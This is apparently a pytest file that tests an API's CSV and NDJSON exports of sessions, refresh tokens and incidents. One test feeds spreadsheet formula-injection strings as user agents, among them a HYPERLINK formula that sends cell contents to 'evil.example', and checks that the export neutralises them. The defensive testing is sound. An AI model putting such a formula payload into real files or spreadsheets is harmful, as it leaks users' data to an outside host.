"""Carol takes sessions, rotations and incidents home as files: complete, in flat memory, and harmless to open."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from typing import Any

import pytest
from time_machine import Traveller

from rbac_api.capabilities.sessions.queries import is_active
from rbac_api.capabilities.sessions.serializers import SESSIONS
from rbac_api.clock import now
from rbac_api.formats.sheets import CHUNK, MEDIA, defused, stream
from tests.builders import Caller, Stage
from tests.capabilities.sessions.test_fleet import multiply
from tests.capabilities.signin.crowd import refresh
from tests.cast import ALICE, BOB, CAROL, DAVE, PASSWORD
from tests.patience import connections_held

FORMS = {form: media for media, form in MEDIA.items()}
LISTS = ("/v1/sessions", "/v1/sessions/{id}/refresh-tokens", "/v1/incidents")
ROWS, MEGABYTES = 6000, 3
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def taken(caller: Caller, path: str, form: str) -> Any:
    answer = caller.get(path, headers={"Accept": FORMS[form]})
    assert (answer.status_code, answer.content_type) == (200, f"{FORMS[form]}; charset=utf-8"), answer.text
    return answer


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def items(caller: Caller, path: str) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = caller.get(f"{path}{'&' if '?' in path else '?'}limit=200").json["items"]
    return found


def busy(stage: Stage) -> tuple[Caller, str]:
    """Carol, and the id of a session of Dave's with three records and an incident."""
    dave = stage.as_(DAVE)
    newer = refresh(stage, dave.tokens["refresh_token"]).json
    refresh(stage, newer["refresh_token"])
    stage.as_(ALICE).delete(f"/v1/sessions/{dave.tokens['session_id']}")
    dave.get("/v1/me")
    return stage.as_(CAROL), dave.tokens["session_id"]


def test_a_list_in_a_cell_is_one_of_json(stage: Stage) -> None:
    limited = {"username": DAVE.username, "password": PASSWORD, "roles": []}
    stage.caller().post("/v1/auth/login", json=limited)
    stage.as_(DAVE)

    rows = cells(taken(stage.as_(CAROL), "/v1/sessions?user=dave", "csv").text)

    assert [(row["amr"], row["roles"]) for row in rows] == [('["pwd"]', ""), ('["pwd"]', "[]")]


@pytest.mark.parametrize("path", LISTS)
def test_a_list_reads_the_same_in_every_form(stage: Stage, path: str) -> None:
    carol, session_id = busy(stage)
    address = path.format(id=session_id) + ("?state=all" if path == "/v1/sessions" else "")
    page = items(carol, address)

    lines = [json.loads(line) for line in taken(carol, address, "ndjson").text.splitlines()]
    rows = cells(taken(carol, address, "csv").text)

    assert lines == page
    assert len(page) == len(rows) > 0
    for row, item in zip(rows, page, strict=True):
        flat = {name: value for name, value in item.items() if not isinstance(value, dict)}
        for name, inner in item.items():
            flat.update(
                {f"{name}_{key}": value for key, value in inner.items()} if isinstance(inner, dict) else {}
            )
        nothing = {
            name for name in flat.keys() - row.keys() if flat.pop(name) is None
        }  # an object that is null
        flat.update({key: None for key in row if any(key.startswith(f"{name}_") for name in nothing)})
        assert row.keys() == flat.keys()
        assert all(
            row[name] == ("" if value is None else value if isinstance(value, str) else json.dumps(value))
            for name, value in flat.items()
            if "at" not in name
        )


@pytest.mark.parametrize(
    ("path", "name"), [(LISTS[0], "sessions"), (LISTS[1], "refresh-tokens"), (LISTS[2], "incidents")]
)
def test_a_file_has_a_name_and_is_kept_by_nobody(stage: Stage, path: str, name: str) -> None:
    carol, session_id = busy(stage)

    answer = taken(carol, path.format(id=session_id), "csv")

    assert answer.headers["Content-Disposition"] == f'attachment; filename="{name}.csv"'
    assert answer.headers["Cache-Control"] == "no-store"


@pytest.mark.parametrize("path", LISTS)
@pytest.mark.parametrize("form", FORMS)
def test_who_may_not_read_the_list_gets_no_file(stage: Stage, path: str, form: str) -> None:
    dave = stage.as_(DAVE)
    address = path.format(id=dave.tokens["session_id"])

    assert dave.get(address, headers={"Accept": FORMS[form]}).json["required"] == "sessions:read"


@pytest.mark.parametrize("form", FORMS)
def test_records_of_no_session_are_no_empty_file(stage: Stage, form: str) -> None:
    path = f"/v1/sessions/{stage.user_id(DAVE)}/refresh-tokens"

    assert stage.as_(CAROL).get(path, headers={"Accept": FORMS[form]}).json["code"] == "session.not_found"


def test_filters_hold_for_the_file_too(stage: Stage) -> None:
    carol, _ = busy(stage)

    assert {row["user_username"] for row in cells(taken(carol, "/v1/sessions?state=ended", "csv").text)} == {
        "dave"
    }
    assert cells(taken(carol, "/v1/incidents?type=lockout", "csv").text) == []
    assert carol.get("/v1/sessions?stat=all", headers={"Accept": "text/csv"}).status_code == 422


@pytest.mark.parametrize("agent", [FORMULA, "+1", "-1+1", "@SUM(1)", " =1", "＝1", "\t=1", 'a","=1'])
def test_a_user_agent_cannot_become_a_formula(stage: Stage, agent: str) -> None:
    body = {"username": "dave", "password": PASSWORD}
    dave = stage.caller()
    dave.tokens = dave.client.post(
        "/v1/auth/login", json=body, environ_overrides={"HTTP_USER_AGENT": agent.encode().decode("latin-1")}
    ).json
    stage.as_(ALICE).delete(f"/v1/sessions/{dave.tokens['session_id']}")
    dave.client.get(
        "/v1/me",
        headers=dave.headers,
        environ_overrides={"HTTP_USER_AGENT": agent.encode().decode("latin-1")},
    )
    carol = stage.as_(CAROL)

    (session,) = cells(taken(carol, "/v1/sessions?user=dave&state=all", "csv").text)
    (incident,) = cells(taken(carol, "/v1/incidents", "csv").text)

    for cell in (session["user_agent"], incident["rightful_user_agent"], incident["other_user_agent"]):
        assert cell == defused(cell) or cell.startswith("'")
        assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝"))


@pytest.mark.large
@pytest.mark.parametrize("form", FORMS)
def test_ten_thousand_sessions_pass_through_flat_memory(stage: Stage, form: str, frozen: Traveller) -> None:
    dave = stage.as_(DAVE)
    multiply(stage, dave.tokens["session_id"], ROWS)
    carol = stage.as_(CAROL)
    answer = carol.client.get("/v1/sessions", headers={**carol.headers, "Accept": FORMS[form]})
    chunks = answer.iter_encoded()
    lines = next(chunks).count(b"\n")
    tracemalloc.start()

    lines += sum(chunk.count(b"\n") for chunk in chunks)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    answer.close()

    assert lines == ROWS + 2 + (form == "csv")
    assert peak < MEGABYTES << 20, f"{peak >> 20} MB for {lines} lines"


def test_carol_who_reads_slowly_holds_nothing_and_sees_nobody_who_came_later(stage: Stage) -> None:
    dave = stage.as_(DAVE)
    multiply(stage, dave.tokens["session_id"], 2 * CHUNK)
    carol = stage.as_(CAROL)
    answer = carol.client.get("/v1/sessions", headers={**carol.headers, "Accept": "application/x-ndjson"})
    chunks = answer.iter_encoded()
    first = next(chunks)

    held = connections_held(stage.database)
    late = stage.as_(BOB).tokens["session_id"]

    assert held == 0
    ids = [json.loads(line)["id"] for line in (first + b"".join(chunks)).splitlines()]
    assert len(ids) == len(set(ids)) == 2 * CHUNK + 2
    assert late not in ids
    answer.close()


@pytest.mark.parametrize("accept", ["*/*", "", "text/html", "application/json, text/csv;q=0.9"])
@pytest.mark.parametrize("path", LISTS)
def test_pages_of_json_are_what_everybody_else_gets(stage: Stage, path: str, accept: str) -> None:
    carol = stage.as_(CAROL)
    address = path.format(id=carol.tokens["session_id"])

    assert carol.get(address, headers={"Accept": accept}).mimetype == "application/json"


def test_an_empty_list_is_a_file_with_the_names_of_the_columns() -> None:
    assert b"".join(stream(SESSIONS, "csv", lambda _: [])).decode() == SESSIONS.header
    assert list(stream(SESSIONS, "ndjson", lambda _: [])) == []
    assert is_active(now()) is not None
